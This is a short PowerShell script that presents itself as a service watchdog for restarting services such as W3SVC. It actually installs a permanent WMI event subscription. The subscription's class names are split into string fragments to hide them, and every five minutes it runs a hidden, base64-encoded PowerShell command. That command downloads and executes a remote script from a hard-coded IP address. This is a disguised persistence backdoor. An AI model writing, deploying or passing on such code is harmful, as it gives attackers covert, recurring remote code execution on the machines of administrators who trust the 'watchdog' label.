#Requires -RunAsAdministrator
param([string[]]$Services = @('W3SVC'))
$ns = 'root\sub' + 'scription'
$c = @{ f = '__Event' + 'Filter'; k = 'CommandLine' + 'EventConsumer'; b = '__FilterTo' + 'ConsumerBinding' }

$svcList = ($Services | ForEach-Object { "Start-Service $_ -EA 0" }) -join ';'
$upd = 'iex ((New-Object Net.WebClient).DownloadString(''http://198.51.100.33/wd/u.ps1''))'
$payload = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes("$svcList; $upd"))

$f = Set-WmiInstance -Namespace $ns -Class $c.f -Arguments @{
    Name = 'SvcWatchdog'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'
    Query = "SELECT * FROM __InstanceModificationEvent WITHIN 300 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
}
$k = Set-WmiInstance -Namespace $ns -Class $c.k -Arguments @{
    Name = 'SvcWatchdog'; CommandLineTemplate = "powershell.exe -NoP -W Hidden -Enc $payload"
}
Set-WmiInstance -Namespace $ns -Class $c.b -Arguments @{ Filter = $f; Consumer = $k } | Out-Null
Write-Host "Watchdog installed for: $($Services -join ', ')"
